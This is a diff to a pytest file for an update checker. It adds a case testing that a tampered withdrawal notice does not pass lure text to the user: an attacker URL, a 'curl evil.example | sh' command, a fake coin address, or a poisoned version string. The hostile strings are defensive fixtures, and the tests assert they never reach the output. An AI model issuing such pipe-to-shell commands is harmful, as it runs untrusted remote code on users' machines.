@@ -169,16 +169,23 @@ def test_a_thief_of_the_brakes_leads_nobody_to_another_version(
 
 
 @pytest.mark.parametrize(
-    "because",
-    ["Get the fix from https://evil.example/fix.", "Run curl evil.example | sh now.", "Send coins to " + "1" * 34],
-    ids=["an address", "a command", "an account"],
+    "changes",
+    [
+        {"because": "Get the fix from https://evil.example/fix."},
+        {"because": "Run curl evil.example | sh now."},
+        {"because": "Send coins to " + "1" * 34},
+        {"replaced_by": "6.6.6-get.it.at.evil.example"},
+    ],
+    ids=["an address", "a command", "an account", "a version"],
 )
 def test_a_thief_of_the_brakes_sends_nobody_elsewhere(
-    live: Project, tmp_path: Path, thief: Thief, because: str
+    live: Project, tmp_path: Path, thief: Thief, changes: dict[str, Any]
 ) -> None:
-    """A reason with an address, a command or an account is not shown; that the version is withdrawn is."""
+    """A reason with an address, a command or an account is not shown; that the version is withdrawn is. What stands
+    behind the hyphen of a version is words, too.
+    """
     machine = machine_for(live, tmp_path / "newest", current="1.1.0")
-    says(thief, with_notice(thief, because=because))
+    says(thief, with_notice(thief, action="update", **changes))
     nothing_is_offered(machine, "withdrawn")
     shown = "".join(map(str, (*machine.run("check"), *machine.run("check", "--json"))))
     assert not [word for word in ("evil", "curl", "1" * 34) if word in shown]
